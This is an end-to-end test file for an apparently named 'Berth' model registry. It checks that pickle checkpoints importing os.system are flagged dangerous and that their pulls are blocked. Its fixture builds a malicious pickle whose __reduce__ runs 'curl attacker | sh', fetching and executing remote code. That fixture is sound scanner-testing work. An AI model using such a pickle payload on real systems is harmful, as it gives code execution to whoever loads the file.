// Scanning on push, end to end: a ModelPack artifact whose PyTorch checkpoint imports os.system is
// marked dangerous on its version (with the finding), a clean one clean, and a webhook receiver gets
// `scan.completed`; with BERTH_SCAN_BLOCK_DANGEROUS (or a project's `preventDangerousPulls`), the
// dangerous version cannot be pulled over OCI or the Hub API, while its blobs and clean versions can. The malicious checkpoint is written by Python's own pickle and zipfile modules.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBerth, type BerthProcess } from '../support/berth.js';
import { descriptorOf, pushBlob, putManifest } from '../support/oci-client.js';
import { apiClient, eventually, must } from '../support/registry-auth.js';
import { toolAvailable } from '../support/tools.js';
import { startReceiver, waitFor, type WebhookReceiver } from '../support/webhook-receiver.js';

const python = toolAvailable('python3');
const MAKE = String.raw`
import collections, os, pickle, sys, zipfile
class Evil:
    def __reduce__(self):
        return (os.system, ('curl attacker | sh',))
with zipfile.ZipFile(sys.argv[1] + '/evil.bin', 'w') as z:
    z.writestr('archive/data.pkl', pickle.dumps({'state_dict': collections.OrderedDict(), 'x': Evil()}, protocol=2))
with zipfile.ZipFile(sys.argv[1] + '/clean.bin', 'w') as z:
    z.writestr('archive/data.pkl', pickle.dumps(collections.OrderedDict(w=[1.0, 2.0]), protocol=2))
`;

let berth: BerthProcess;
let receiver: WebhookReceiver;
let dir: string;
let api: ReturnType<typeof apiClient>;

async function pushModel(berth: BerthProcess, repo: string, files: Record<string, Buffer | string>): Promise<string> {
  const config = JSON.stringify({ descriptor: { name: repo }, config: { format: 'pytorch' }, modelfs: { type: 'layers', diffIds: [] } });
  await pushBlob(berth.url, repo, config);
  for (const bytes of Object.values(files)) await pushBlob(berth.url, repo, bytes);
  const res = await putManifest(berth.url, repo, 'v1', {
    schemaVersion: 2,
    mediaType: 'application/vnd.oci.image.manifest.v1+json',
    artifactType: 'application/vnd.cncf.model.manifest.v1+json',
    config: descriptorOf(config, 'application/vnd.cncf.model.config.v1+json'),
    layers: Object.entries(files).map(([path, bytes]) => descriptorOf(bytes, 'application/vnd.cncf.model.weight.v1.raw', { annotations: { 'org.cncf.model.filepath': path } })),
  });
  expect(res.status).toBe(201);
  return res.headers.get('docker-content-digest')!;
}

async function scanOf(api: ReturnType<typeof apiClient>, model: string): Promise<Record<string, unknown>> {
  return eventually(async () => {
    const properties = (await must(api.get(`/api/v1/models/${model}/versions/v1`), 200)).body.properties as Record<string, unknown>;
    return properties['berth.scan.status'] === undefined ? undefined : properties;
  }, `the scan of ${model}`, 15_000);
}

describe.runIf(python)('scanning pushed models', () => {
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'berth-scan-'));
    execFileSync('python3', ['-c', MAKE, dir]);
    receiver = await startReceiver();
    berth = await startBerth({ env: { BERTH_WEBHOOK_POLL_MS: '50', BERTH_SCAN_BLOCK_DANGEROUS: 'true' } });
    api = apiClient(berth.url);
    await must(api.post('/api/v1/system/webhooks', { url: receiver.url, events: ['scan.completed'] }), 201);
  });
  afterAll(async () => {
    await berth.dispose();
    await receiver.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('marks a version whose checkpoint would run os.system on load as dangerous, naming the import', async () => {
    const digest = await pushModel(berth, 'team/evil', { 'pytorch_model.bin': readFileSync(join(dir, 'evil.bin')), 'model.safetensors': 'not a pickle', 'README.md': '# evil' });
    const properties = await scanOf(api, 'team/evil');
    expect(properties).toMatchObject({ 'berth.scan.status': 'dangerous', 'berth.scan.files': 1 });
    expect(JSON.parse(String(properties['berth.scan.findings']))).toEqual([
      { path: 'pytorch_model.bin', status: 'dangerous', findings: [{ module: 'posix', name: 'system', severity: 'dangerous', entry: 'archive/data.pkl' }] },
    ]);
    await waitFor(() => receiver.received.some((h) => h.json?.event === 'scan.completed' && h.json.event_data.model === 'team/evil'), 'the scan event');
    const event = receiver.received.find((h) => h.json.event_data.model === 'team/evil')!.json;
    expect(event).toMatchObject({ type: 'SCANNING_COMPLETED', project: 'team', event_data: { version: 'v1', digest, status: 'dangerous', files: 1, findings: 1 } });
  });

  it('marks a version with only a safe checkpoint clean, and one with nothing to scan clean with zero files', async () => {
    await pushModel(berth, 'team/clean', { 'pytorch_model.bin': readFileSync(join(dir, 'clean.bin')) });
    expect(await scanOf(api, 'team/clean')).toMatchObject({ 'berth.scan.status': 'clean', 'berth.scan.files': 1, 'berth.scan.findings': '[]' });
    await pushModel(berth, 'team/st', { 'model.safetensors': 'tensors', 'config.json': '{}' });
    expect(await scanOf(api, 'team/st')).toMatchObject({ 'berth.scan.status': 'clean', 'berth.scan.files': 0 });
  });

  it('refuses pulls of the dangerous version over OCI and the Hub API when blocking is on, and lets clean ones through', async () => {
    const accept = { accept: 'application/vnd.oci.image.manifest.v1+json' };
    const evil = await fetch(`${berth.url}/v2/team/evil/manifests/v1`, { headers: accept });
    expect(evil.status).toBe(403);
    const body = (await evil.json()) as { errors: Array<{ code: string; message: string }> };
    expect(body.errors[0]).toMatchObject({ code: 'DENIED', message: expect.stringMatching(/team\/evil version v1 failed its scan/) });
    const hub = await fetch(`${berth.url}/api/models/team/evil/revision/v1`);
    expect(hub.status).toBe(403);
    const head = await fetch(`${berth.url}/v2/team/evil/manifests/v1`, { method: 'HEAD', headers: accept });
    expect(head.status).toBe(200);
    expect((await fetch(`${berth.url}/v2/team/clean/manifests/v1`, { headers: accept })).status).toBe(200);
    expect((await fetch(`${berth.url}/api/models/team/clean/revision/v1`)).status).toBe(200);
  });
});

describe.runIf(python)('per-project pull blocking of dangerous versions', () => {
  let server: BerthProcess | undefined;
  let files: string;
  let client: ReturnType<typeof apiClient>;
  const accept = { accept: 'application/vnd.oci.image.manifest.v1+json' };
  const pull = async (repo: string) => (await fetch(`${server!.url}/v2/${repo}/manifests/v1`, { headers: accept })).status;
  const hubPull = async (repo: string) => (await fetch(`${server!.url}/api/models/${repo}/revision/v1`)).status;

  beforeAll(async () => {
    files = mkdtempSync(join(tmpdir(), 'berth-scan-'));
    execFileSync('python3', ['-c', MAKE, files]);
    server = await startBerth();
    client = apiClient(server.url);
    const evil = readFileSync(join(files, 'evil.bin'));
    for (const project of ['strict', 'lax']) {
      await must(client.post('/api/v1/projects', { name: project }), 201);
      await pushModel(server, `${project}/evil`, { 'pytorch_model.bin': evil });
      expect(await scanOf(client, `${project}/evil`)).toMatchObject({ 'berth.scan.status': 'dangerous' });
    }
    await pushModel(server, 'strict/clean', { 'pytorch_model.bin': readFileSync(join(files, 'clean.bin')) });
    expect(await scanOf(client, 'strict/clean')).toMatchObject({ 'berth.scan.status': 'clean' });
  });
  afterAll(async () => {
    await server?.dispose();
    rmSync(files, { recursive: true, force: true });
  });

  it('pulls everything while no project asks for blocking, and the server-wide switch is off', async () => {
    expect(await pull('strict/evil')).toBe(200);
    expect((await must(client.get('/api/v1/projects/strict'), 200)).body).toMatchObject({ preventDangerousPulls: false });
  });

  it('blocks dangerous versions only in the project that turned it on, and lifts the block when turned off', async () => {
    expect((await must(client.patch('/api/v1/projects/strict', { preventDangerousPulls: true }), 200)).body).toMatchObject({ name: 'strict', preventDangerousPulls: true });
    await eventually(async () => ((await pull('strict/evil')) === 403 ? true : undefined), 'the project block', 10_000);
    expect(await hubPull('strict/evil')).toBe(403);
    expect(await pull('strict/clean')).toBe(200);
    expect(await pull('lax/evil')).toBe(200);
    expect(await hubPull('lax/evil')).toBe(200);
    await must(client.patch('/api/v1/projects/strict', { preventDangerousPulls: false }), 200);
    await eventually(async () => ((await pull('strict/evil')) === 200 ? true : undefined), 'the block lifted', 10_000);
  });

  it('refuses a malformed setting and changes nothing', async () => {
    const res = await client.patch('/api/v1/projects/lax', { preventDangerousPulls: 'yes' });
    expect(res.status).toBe(400);
    expect((await must(client.get('/api/v1/projects/lax'), 200)).body).toMatchObject({ preventDangerousPulls: false });
  });
});
